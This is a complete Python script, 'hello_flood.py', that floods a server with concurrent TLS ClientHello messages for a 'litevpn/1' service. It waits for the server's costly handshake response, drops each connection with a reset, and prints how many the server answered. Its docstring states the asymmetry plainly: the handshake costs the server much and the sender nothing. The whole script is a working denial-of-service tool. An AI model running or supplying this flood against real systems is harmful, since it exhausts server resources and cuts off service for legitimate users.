#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Sends the same ClientHello over one connection after the other, always several at once, waits for
the server's part of the handshake, which costs the server much and us nothing, and goes away. Prints
how many the server has answered.

usage: hello_flood.py SERVER PORT SECONDS AT_ONCE
"""
import select
import socket
import struct
import sys
import time

from OpenSSL import SSL


def client_hello():
    ctx = SSL.Context(SSL.TLS_CLIENT_METHOD)
    ctx.set_alpn_protos([b"litevpn/1"])
    conn = SSL.Connection(ctx, None)
    conn.set_connect_state()
    try:
        conn.do_handshake()
    except SSL.WantReadError:
        pass
    return conn.bio_read(4096)


def begin(server, port, hello, epoll):
    sock = socket.create_connection((server, port), timeout=5)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # end by a reset
    sock.send(hello)
    epoll.register(sock, select.EPOLLIN)
    return sock


def main():
    server, port, seconds, at_once = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    hello = client_hello()
    epoll = select.epoll()
    socks = {}
    answered = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(socks) < at_once:
            sock = begin(server, port, hello, epoll)
            socks[sock.fileno()] = sock
        for fd, _ in epoll.poll(0.1):
            sock = socks.pop(fd)
            try:
                answered += len(sock.recv(16384)) > 1000
            except ConnectionError:
                pass  # there was no room
            epoll.unregister(fd)
            sock.close()
    print(answered)


main()
